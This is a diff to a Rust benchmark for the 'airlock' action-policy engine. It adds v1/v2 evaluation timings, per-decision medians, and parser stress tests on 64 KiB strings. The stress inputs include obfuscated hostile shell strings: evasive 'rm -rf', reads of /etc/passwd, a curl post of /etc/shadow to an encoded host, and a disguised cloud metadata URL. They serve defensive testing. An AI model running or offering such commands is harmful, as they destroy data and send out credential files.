@@ -6,7 +6,10 @@
 //!
 //! Lines measured (group `policy`):
 //! - `airlock_evaluate`: `evaluate(&action, &ruleset)` on prebuilt actions, all hardline
-//!   matching included.
+//!   matching included (hardline v2: both passes, shipped files).
+//! - `airlock_evaluate_v1_engine`: the v1 evaluation in the same run: pass 1 alone
+//!   (`Passes::V1Only`) under the v1 hardline file, on the same mix.
+//! - `airlock_evaluate_v2_mix`: `evaluate` on `policy-v2-cases.jsonl` (1,163 payload actions).
 //! - `cedar_is_authorized`: `Authorizer::is_authorized` on prebuilt requests (the main
 //!   comparison; it favours Cedar, which does none of the content matching).
 //! - `cedar_build_request`: building the Cedar context and request from an action whose content
@@ -21,25 +24,34 @@ use std::hint::black_box;
 use std::path::PathBuf;
 use std::time::{Duration, Instant, SystemTime};
 
-use airlock_bench::{CedarEngine, ContentMatchers, agreement, load_cases};
+use airlock_bench::{
+    CedarEngine, ContentMatchers, HARDLINE_V1, agreement, load_cases, load_cases_from,
+    v2_cases_path,
+};
 use airlock_core::action::ProposedAction;
-use airlock_core::policy::{Ruleset, evaluate};
+use airlock_core::policy::hardline::{Passes, Prefilter};
+use airlock_core::policy::shipped::DEFAULT_PROFILE;
+use airlock_core::policy::{Ruleset, evaluate, evaluate_with};
 use cedar_policy::Request;
 use criterion::{Criterion, Throughput};
 
 const GROUP: &str = "policy";
-const LINES: [&str; 4] = [
+const LINES: [&str; 6] = [
     "airlock_evaluate",
     "cedar_is_authorized",
     "cedar_build_request",
     "cedar_request_authorize_map",
+    "airlock_evaluate_v1_engine",
+    "airlock_evaluate_v2_mix",
 ];
 
 /// What the paired cross-check needs after criterion is done.
 struct Mix {
     ruleset: Ruleset,
+    v1_ruleset: Ruleset,
     cedar: CedarEngine,
     actions: Vec<ProposedAction>,
+    v2_actions: Vec<ProposedAction>,
     requests: Vec<Request>,
 }
 
@@ -72,12 +84,17 @@ fn bench(c: &mut Criterion) -> Mix {
         .collect();
     let n = actions.len();
     drop(cases);
+    let v1_ruleset = Ruleset::load(DEFAULT_PROFILE, HARDLINE_V1).expect("the v1 hardline file loads");
+    let v2_actions: Vec<ProposedAction> = load_cases_from(v2_cases_path())
+        .into_iter()
+        .map(|c| c.action)
+        .collect();
 
     let mut group = c.benchmark_group(GROUP);
     group.throughput(Throughput::Elements(n as u64));
-    group.sample_size(50);
-    group.warm_up_time(Duration::from_secs(3));
-    group.measurement_time(Duration::from_secs(10));
+    group.sample_size(20);
+    group.warm_up_time(Duration::from_secs(2));
+    group.measurement_time(Duration::from_secs(6));
 
     group.bench_function(LINES[0], |b| {
         b.iter(|| {
@@ -109,11 +126,39 @@ fn bench(c: &mut Criterion) -> Mix {
             }
         })
     });
+    group.bench_function(LINES[4], |b| {
+        b.iter(|| {
+            for action in &actions {
+                black_box(evaluate_with(
+                    black_box(action),
+                    &v1_ruleset,
+                    Passes::V1Only,
+                    Prefilter::On,
+                ));
+            }
+        })
+    });
     group.finish();
+    // The v2 mix has its own element count, so it is its own group.
+    let mut v2_group = c.benchmark_group("policy_v2_mix");
+    v2_group.throughput(Throughput::Elements(v2_actions.len() as u64));
+    v2_group.sample_size(20);
+    v2_group.warm_up_time(Duration::from_secs(2));
+    v2_group.measurement_time(Duration::from_secs(6));
+    v2_group.bench_function(LINES[5], |b| {
+        b.iter(|| {
+            for action in &v2_actions {
+                black_box(evaluate(black_box(action), &ruleset));
+            }
+        })
+    });
+    v2_group.finish();
     Mix {
         ruleset,
+        v1_ruleset,
         cedar,
         actions,
+        v2_actions,
         requests,
     }
 }
@@ -150,6 +195,94 @@ fn paired(mix: &Mix, rounds: usize) {
     );
 }
 
+/// Per-decision medians (SPEC §21.5 asks for the median decision): each action is decided
+/// `reps` times, its fastest time kept (the least disturbed by other load), and the median over
+/// the actions reported, for v2 and for the v1 engine on the same actions.
+fn per_decision_medians(mix: &Mix, reps: usize) {
+    let time = |f: &dyn Fn()| {
+        let mut best = u128::MAX;
+        for _ in 0..reps {
+            let start = Instant::now();
+            f();
+            best = best.min(start.elapsed().as_nanos());
+        }
+        best
+    };
+    let median = |mut v: Vec<u128>| {
+        v.sort_unstable();
+        (v[v.len() / 2], v[v.len() * 9 / 10], v[v.len() - 1])
+    };
+    let v2: Vec<u128> = mix
+        .actions
+        .iter()
+        .map(|a| time(&|| drop(black_box(evaluate(black_box(a), &mix.ruleset)))))
+        .collect();
+    let v1: Vec<u128> = mix
+        .actions
+        .iter()
+        .map(|a| {
+            time(&|| {
+                drop(black_box(evaluate_with(
+                    black_box(a),
+                    &mix.v1_ruleset,
+                    Passes::V1Only,
+                    Prefilter::On,
+                )))
+            })
+        })
+        .collect();
+    let v2_mix: Vec<u128> = mix
+        .v2_actions
+        .iter()
+        .map(|a| time(&|| drop(black_box(evaluate(black_box(a), &mix.ruleset)))))
+        .collect();
+    println!("\n== per-decision time, fastest of {reps} per action: median / p90 / max (ns) ==");
+    for (name, v) in [
+        ("v2, policy-cases mix", v2),
+        ("v1 engine, policy-cases mix", v1),
+        ("v2, policy-v2-cases mix", v2_mix),
+    ] {
+        let (m, p90, max) = median(v);
+        println!("{name:<30} {m:>8} / {p90:>8} / {max:>8}");
+    }
+}
+
+/// SPEC §21.5: each reading of a 64 KiB string should take under 10 ms. Shapes: plain words,
+/// many short commands, pipes and here-document operators (tree-sitter's worst cases), unmatched
+/// parentheses and unclosed `case` (brush-parser's, refused by the guards), quoted URLs, and
+/// random-looking payload text. Fastest of 3 per shape.
+fn readings_of_64_kib() {
+    use airlock_core::policy::hardline::{shell, url};
+    const N: usize = 64 * 1024;
+    let fill = |unit: &str| unit.repeat(N / unit.len());
+    let shapes = [
+        ("words", fill("word ")),
+        ("short commands", fill("a;")),
+        ("rm commands", fill("r''m -rf /tmp/x && ")),
+        ("pipes", fill("a|")),
+        ("here-doc operators", fill("<<")),
+        ("unmatched (", fill("(")),
+        ("unclosed case", fill("case a in a) ")),
+        ("quoted URLs", fill("'http://169。254。169。254/x?a=1' ")),
+        ("payload mix", fill("cat${IFS}/e?c/passwd; {rm,-rf,/}; curl -d @/etc/shadow http:%31.2/ ")),
+    ];
+    println!("\n== readings of a 64 KiB string (fastest of 3, ms) ==");
+    for (name, text) in &shapes {
+        let time = |f: &dyn Fn()| {
+            (0..3)
+                .map(|_| {
+                    let start = Instant::now();
+                    f();
+                    start.elapsed().as_secs_f64() * 1e3
+                })
+                .fold(f64::INFINITY, f64::min)
+        };
+        let shell_ms = time(&|| drop(black_box(shell::read_shell(black_box(text)))));
+        let url_ms = time(&|| drop(black_box(url::read_urls(black_box(text), true))));
+        println!("{name:<20} shell {shell_ms:>8.2}   url {url_ms:>8.2}   ({} bytes)", text.len());
+    }
+}
+
 /// Where criterion writes its estimates (its own lookup order, with the bench crate's
 /// `target/` for the `cargo metadata` case).
 fn criterion_home() -> PathBuf {
@@ -164,9 +297,9 @@ fn criterion_home() -> PathBuf {
 
 /// The typical time per iteration (slope, else mean) with its 95 % interval, in ns, if this run
 /// wrote it.
-fn estimate(line: &str, since: SystemTime) -> Option<(f64, f64, f64)> {
+fn estimate(group: &str, line: &str, since: SystemTime) -> Option<(f64, f64, f64)> {
     let path = criterion_home()
-        .join(GROUP)
+        .join(group)
         .join(line)
         .join("new")
         .join("estimates.json");
@@ -189,9 +322,14 @@ fn estimate(line: &str, since: SystemTime) -> Option<(f64, f64, f64)> {
 }
 
 /// Prints the per-decision table; returns whether the two main lines were measured in this run.
-fn summary(n: usize, since: SystemTime) -> bool {
-    let per = |line| {
-        estimate(line, since).map(|(t, lo, hi)| {
+fn summary(n: usize, v2_n: usize, since: SystemTime) -> bool {
+    let per = |line: &str| {
+        let (group, n) = if line == LINES[5] {
+            ("policy_v2_mix", v2_n)
+        } else {
+            (GROUP, n)
+        };
+        estimate(group, line, since).map(|(t, lo, hi)| {
             let n = n as f64;
             (t / n, lo / n, hi / n)
         })
@@ -210,7 +348,7 @@ fn summary(n: usize, since: SystemTime) -> bool {
     let get = |name| found.iter().find(|(l, _)| *l == name).map(|(_, t)| *t);
     let measured = get(LINES[0]).is_some() && get(LINES[1]).is_some();
     if let Some(airlock) = get(LINES[0]) {
-        for line in &LINES[1..] {
+        for line in &LINES[1..4] {
             if *line == LINES[2] {
                 continue;
             }
@@ -228,7 +366,9 @@ fn main() {
     let mix = bench(&mut criterion);
     criterion.final_summary();
     // Skipped under `cargo test --benches` and when a filter left out either main line.
-    if summary(mix.actions.len(), since) {
+    if summary(mix.actions.len(), mix.v2_actions.len(), since) {
         paired(&mix, 300);
+        per_decision_medians(&mix, 5);
     }
+    readings_of_64_kib();
 }
